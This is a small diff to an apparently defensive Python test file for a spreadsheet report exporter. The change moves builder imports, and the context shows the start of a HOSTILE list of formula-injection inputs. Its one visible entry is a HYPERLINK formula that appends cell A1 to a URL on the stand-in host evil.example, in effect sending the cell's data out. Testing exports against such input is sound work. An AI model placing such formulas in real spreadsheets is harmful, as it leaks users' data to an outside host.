@@ -7,9 +7,9 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from chiso.core import xlsx as dashboard_xlsx
+from chiso.core.builders.base import Header, ReportDocument, Signature, Table
+from chiso.core.builders.xlsx import STYLED_ROWS_MAX, XlsxBuilder
 from chiso.core.spreadsheet import FORMULA_STARTS
-from chiso.reports.builders.base import Header, ReportDocument, Signature, Table
-from chiso.reports.builders.xlsx import STYLED_ROWS_MAX, XlsxBuilder
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
